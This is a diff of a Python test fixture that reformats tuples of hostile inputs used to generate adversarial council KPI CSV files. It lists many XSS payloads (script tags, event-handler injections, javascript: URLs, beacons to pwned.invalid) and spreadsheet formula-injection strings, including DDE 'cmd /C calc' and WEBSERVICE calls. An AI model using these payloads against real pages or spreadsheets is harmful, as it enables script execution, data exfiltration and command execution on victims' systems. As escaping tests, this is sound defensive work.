@@ -6,47 +6,118 @@ from pathlib import Path
 AWAY = "pwned.invalid"
 _RUN = "pwned()"
 SCRIPTS = (
-    f"<script>{_RUN}</script>", f"<ScRiPt >{_RUN}</sCrIpT >", f"</script><script>{_RUN}</script>",
-    f"</title><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
-    f"--><script>{_RUN}</script><!--", f"]]><script>{_RUN}</script>", f"<script src=https://{AWAY}/x.js></script>",
-    f"<script src=data:,{_RUN}></script>", f"<script type=module>{_RUN}</script>", f"<scr<script>ipt>{_RUN}</script>",
-    f"<svg><script>{_RUN}</script></svg>", f"<svg><script href=data:,{_RUN} /></svg>", f"<svg onload={_RUN}>",
-    f"<svg/onload={_RUN}//", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
-    f"<svg><set onbegin={_RUN} attributename=x to=1>", f'"><svg onload={_RUN}>', f"'><svg onload={_RUN}>",
-    f"</desc></svg><svg onload={_RUN}>", f"</text><svg onload={_RUN}>",
-    f"<svg><style><img src=x onerror={_RUN}></style></svg>", f"<svg><a href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
-    f"<svg><use href='https://{AWAY}/x.svg#x'/></svg>", f"<svg><image href='https://{AWAY}/x.png'/></svg>",
-    f"<img src=x onerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", f'"><img src=x onerror={_RUN}>',
-    f"'><img src=x onerror={_RUN}>", f"`><img src=x onerror={_RUN}>", f"<img src=`x`onerror={_RUN}>",
-    f"<IMG SRC=x ONERROR={_RUN}>", f"<img src=https://{AWAY}/beacon.gif>", f"<img srcset='https://{AWAY}/b.gif 1x'>",
-    f"&lt;img src=x onerror={_RUN}&gt;", f"&#60;img src=x onerror={_RUN}&#62;", f"\\u003cimg src=x onerror={_RUN}\\u003e",
-    f"<iframe src=javascript:parent.{_RUN}></iframe>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
-    f"<object data=javascript:{_RUN}></object>", f"<embed src=https://{AWAY}/x.swf>", f"<body onload={_RUN}>",
-    f"<details open ontoggle={_RUN}><summary>x</summary></details>", f"<input autofocus onfocus={_RUN}>",
-    f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}></audio>",
-    f"<marquee onstart={_RUN}>x</marquee>", f"<div onmouseover={_RUN} style=position:fixed;inset:0>x</div>",
-    f"\" onmouseover={_RUN} x=\"", f"' onfocus={_RUN} autofocus x='", f"<a href=javascript:{_RUN}>x</a>",
-    f"<a href=' javascript:{_RUN}'>x</a>", f"<a href=https://{AWAY} ping=https://{AWAY}/ping>x</a>",
-    f"<form action=javascript:{_RUN}><button>x</button></form>", f"<math><mtext></form><form><mglyph><svg><mtext><style>"
-    f"<path id='</style><img src=x onerror={_RUN}>'>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+    f"<script>{_RUN}</script>",
+    f"<ScRiPt >{_RUN}</sCrIpT >",
+    f"</script><script>{_RUN}</script>",
+    f"</title><script>{_RUN}</script>",
+    f"</style><script>{_RUN}</script>",
+    f"</textarea><script>{_RUN}</script>",
+    f"--><script>{_RUN}</script><!--",
+    f"]]><script>{_RUN}</script>",
+    f"<script src=https://{AWAY}/x.js></script>",
+    f"<script src=data:,{_RUN}></script>",
+    f"<script type=module>{_RUN}</script>",
+    f"<scr<script>ipt>{_RUN}</script>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><script href=data:,{_RUN} /></svg>",
+    f"<svg onload={_RUN}>",
+    f"<svg/onload={_RUN}//",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg><set onbegin={_RUN} attributename=x to=1>",
+    f'"><svg onload={_RUN}>',
+    f"'><svg onload={_RUN}>",
+    f"</desc></svg><svg onload={_RUN}>",
+    f"</text><svg onload={_RUN}>",
+    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
+    f"<svg><a href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
+    f"<svg><use href='https://{AWAY}/x.svg#x'/></svg>",
+    f"<svg><image href='https://{AWAY}/x.png'/></svg>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img/src=x/onerror={_RUN}>",
+    f'"><img src=x onerror={_RUN}>',
+    f"'><img src=x onerror={_RUN}>",
+    f"`><img src=x onerror={_RUN}>",
+    f"<img src=`x`onerror={_RUN}>",
+    f"<IMG SRC=x ONERROR={_RUN}>",
+    f"<img src=https://{AWAY}/beacon.gif>",
+    f"<img srcset='https://{AWAY}/b.gif 1x'>",
+    f"&lt;img src=x onerror={_RUN}&gt;",
+    f"&#60;img src=x onerror={_RUN}&#62;",
+    f"\\u003cimg src=x onerror={_RUN}\\u003e",
+    f"<iframe src=javascript:parent.{_RUN}></iframe>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<object data=javascript:{_RUN}></object>",
+    f"<embed src=https://{AWAY}/x.swf>",
+    f"<body onload={_RUN}>",
+    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}></audio>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<div onmouseover={_RUN} style=position:fixed;inset:0>x</div>",
+    f'" onmouseover={_RUN} x="',
+    f"' onfocus={_RUN} autofocus x='",
+    f"<a href=javascript:{_RUN}>x</a>",
+    f"<a href=' javascript:{_RUN}'>x</a>",
+    f"<a href=https://{AWAY} ping=https://{AWAY}/ping>x</a>",
+    f"<form action=javascript:{_RUN}><button>x</button></form>",
+    f"<math><mtext></form><form><mglyph><svg><mtext><style>"
+    f"<path id='</style><img src=x onerror={_RUN}>'>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
     f"<template><script>{_RUN}</script></template><img src=x onerror={_RUN}>",
-    f"<meta http-equiv=refresh content='0;url=https://{AWAY}/'>", f"<base href=https://{AWAY}/>", f"<link rel=stylesheet href=https://{AWAY}/x.css>",
-    f"<link rel=prefetch href=https://{AWAY}/x>", f"<style>@import'https://{AWAY}/x.css';</style>",
-    f"<style>*{{background:url(https://{AWAY}/x.png)}}</style>", f"<p style='background:url(https://{AWAY}/x.png)'>x</p>",
-    f"[x](javascript:{_RUN})", f"[x](http://{AWAY}/)", f"![x](http://{AWAY}/x.png)", f"<http://{AWAY}/>",
+    f"<meta http-equiv=refresh content='0;url=https://{AWAY}/'>",
+    f"<base href=https://{AWAY}/>",
+    f"<link rel=stylesheet href=https://{AWAY}/x.css>",
+    f"<link rel=prefetch href=https://{AWAY}/x>",
+    f"<style>@import'https://{AWAY}/x.css';</style>",
+    f"<style>*{{background:url(https://{AWAY}/x.png)}}</style>",
+    f"<p style='background:url(https://{AWAY}/x.png)'>x</p>",
+    f"[x](javascript:{_RUN})",
+    f"[x](http://{AWAY}/)",
+    f"![x](http://{AWAY}/x.png)",
+    f"<http://{AWAY}/>",
     f"[x]: javascript:{_RUN}\n[x]",
-    f"![x](x\"onerror={_RUN})", f"```html\n<img src=x onerror={_RUN}>\n```",
+    f'![x](x"onerror={_RUN})',
+    f"```html\n<img src=x onerror={_RUN}>\n```",
     f"{{{{ self.__init__.__globals__ }}}}<img src=x onerror={_RUN}>",
-    f"{{% import 'os' as os %}}<img src=x onerror={_RUN}>", f"${{{_RUN}}}", f"$\\href{{javascript:{_RUN}}}{{x}}$",
-    f"\u2028<img src=x onerror={_RUN}>", f"\u202e<img src=x onerror={_RUN}>", f"<\x0bimg src=x onerror={_RUN}>",
+    f"{{% import 'os' as os %}}<img src=x onerror={_RUN}>",
+    f"${{{_RUN}}}",
+    f"$\\href{{javascript:{_RUN}}}{{x}}$",
+    f"\u2028<img src=x onerror={_RUN}>",
+    f"\u202e<img src=x onerror={_RUN}>",
+    f"<\x0bimg src=x onerror={_RUN}>",
     f"\x1b]8;;http://{AWAY}\x07x\x1b]8;;\x07",
-)  # fmt: skip
+)
 FORMULAS = (
-    '=HYPERLINK("http://pwned.invalid","x")', "=1+1", "=cmd|' /C calc'!A0", '=IMPORTXML("http://pwned.invalid","//a")',
-    '=WEBSERVICE("http://pwned.invalid")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
-    "'=1+1", "x\r=1+1", 'x"\n=1+1', "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1;2", "=1+1,3",
-    "{=1+1}", "=file://pwned.invalid/x", "-2+3+cmd|' /C calc'!A0", "=A1:A9", "=\u200b1+1",
-)  # fmt: skip
+    '=HYPERLINK("http://pwned.invalid","x")',
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML("http://pwned.invalid","//a")',
+    '=WEBSERVICE("http://pwned.invalid")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "'=1+1",
+    "x\r=1+1",
+    'x"\n=1+1',
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    '=DDE("cmd";"/C calc";"x")',
+    "=1+1;2",
+    "=1+1,3",
+    "{=1+1}",
+    "=file://pwned.invalid/x",
+    "-2+3+cmd|' /C calc'!A0",
+    "=A1:A9",
+    "=\u200b1+1",
+)
 PAYLOADS = SCRIPTS + FORMULAS
 QUARTER = "2024-25 Q3"
 
@@ -76,14 +147,52 @@ def write_hostile_council(raw: Path, refused_rows: bool = True) -> Path:
         encoding="utf-8",
     )
     numbers = range(count)
-    _write(raw / "kpis.csv", ["kpi_id", "kpi_name", "section", "directorate", "unit", "decimals", "polarity", "basis",
-                              "frequency", "lag_quarters", "first_quarter", "definition", "owner", "status", "source"],
-           [[f"K{n:03}{at(n, 11) if n % 2 else ''}", f"{at(n, 1)} {n}", sections[n], at(n, 2),
-             f"other: {at(n, 12)}" if n % 3 == 1 else "%", 0, "higher", "quarter", "quarterly", 0, "2020-21 Q1", at(n, 3), at(n, 4), "final", at(n, 5)]
-            for n in numbers])  # fmt: skip
+    _write(
+        raw / "kpis.csv",
+        [
+            "kpi_id",
+            "kpi_name",
+            "section",
+            "directorate",
+            "unit",
+            "decimals",
+            "polarity",
+            "basis",
+            "frequency",
+            "lag_quarters",
+            "first_quarter",
+            "definition",
+            "owner",
+            "status",
+            "source",
+        ],
+        [
+            [
+                f"K{n:03}{at(n, 11) if n % 2 else ''}",
+                f"{at(n, 1)} {n}",
+                sections[n],
+                at(n, 2),
+                f"other: {at(n, 12)}" if n % 3 == 1 else "%",
+                0,
+                "higher",
+                "quarter",
+                "quarterly",
+                0,
+                "2020-21 Q1",
+                at(n, 3),
+                at(n, 4),
+                "final",
+                at(n, 5),
+            ]
+            for n in numbers
+        ],
+    )
     ids = [f"K{n:03}{at(n, 11) if n % 2 else ''}" for n in numbers]
-    _write(raw / "targets.csv", ["kpi_id", "from_quarter", "target", "floor_standard", "reason", "status"],
-           [[ids[n], "2020-21 Q1", 90, 80, at(n, 6), "estimated"] for n in numbers])  # fmt: skip
+    _write(
+        raw / "targets.csv",
+        ["kpi_id", "from_quarter", "target", "floor_standard", "reason", "status"],
+        [[ids[n], "2020-21 Q1", 90, 80, at(n, 6), "estimated"] for n in numbers],
+    )
     rows = [
         [ids[n], f"2024-25 Q{q}", 70 + (n + q) % 30, "provisional", at(n, 7)]
         for n in numbers
@@ -95,17 +204,51 @@ def write_hostile_council(raw: Path, refused_rows: bool = True) -> Path:
         ["kpi_id", "period", "value", "status", "note", at(9, 0)],
         [[*row, ""] for row in rows + (refused if refused_rows else [])],
     )
-    _write(raw / "commentary" / "2024-25-Q3.csv", ["kpi_id", "section", "commentary", "management_action", "author"],
-           [[ids[n], "", said(n, 8), said(n, 9), at(n, 10)] for n in numbers]
-           + [["", sections[n], said(n, 11), "", at(n, 12)] for n in numbers])  # fmt: skip
-    _write(raw / "activity.csv", ["activity_id", "activity_name", "section", "unit", "decimals", "period", "value", "status",
-                                  "note"],
-           [[f"A{n:03}", f"{at(n, 2)} {n}", sections[n], f"other: {at(n, 3)}", 0, f"2024-25 Q{q}", 100 + q, "final", at(n, 4)]
-            for n in list(numbers)[::4] for q in (1, 2, 3)])  # fmt: skip
-    _write(raw / "changes.csv", ["kpi_id", "from_quarter", "change", "reason", "status"],
-           [[ids[n], "2024-25 Q3", ("added", "redefined")[n % 2], at(n, 8), "final"] for n in numbers])  # fmt: skip
-    _write(raw / "benchmarks.csv", ["kpi_id", "area", "period", "value", "from_quarter", "source"],
-           [[ids[n], at(n, 5), at(n, 6), 50, "2024-25 Q1", at(n, 7)] for n in numbers])  # fmt: skip
+    _write(
+        raw / "commentary" / "2024-25-Q3.csv",
+        ["kpi_id", "section", "commentary", "management_action", "author"],
+        [[ids[n], "", said(n, 8), said(n, 9), at(n, 10)] for n in numbers]
+        + [["", sections[n], said(n, 11), "", at(n, 12)] for n in numbers],
+    )
+    _write(
+        raw / "activity.csv",
+        [
+            "activity_id",
+            "activity_name",
+            "section",
+            "unit",
+            "decimals",
+            "period",
+            "value",
+            "status",
+            "note",
+        ],
+        [
+            [
+                f"A{n:03}",
+                f"{at(n, 2)} {n}",
+                sections[n],
+                f"other: {at(n, 3)}",
+                0,
+                f"2024-25 Q{q}",
+                100 + q,
+                "final",
+                at(n, 4),
+            ]
+            for n in list(numbers)[::4]
+            for q in (1, 2, 3)
+        ],
+    )
+    _write(
+        raw / "changes.csv",
+        ["kpi_id", "from_quarter", "change", "reason", "status"],
+        [[ids[n], "2024-25 Q3", ("added", "redefined")[n % 2], at(n, 8), "final"] for n in numbers],
+    )
+    _write(
+        raw / "benchmarks.csv",
+        ["kpi_id", "area", "period", "value", "from_quarter", "source"],
+        [[ids[n], at(n, 5), at(n, 6), 50, "2024-25 Q1", at(n, 7)] for n in numbers],
+    )
     return raw
 
 
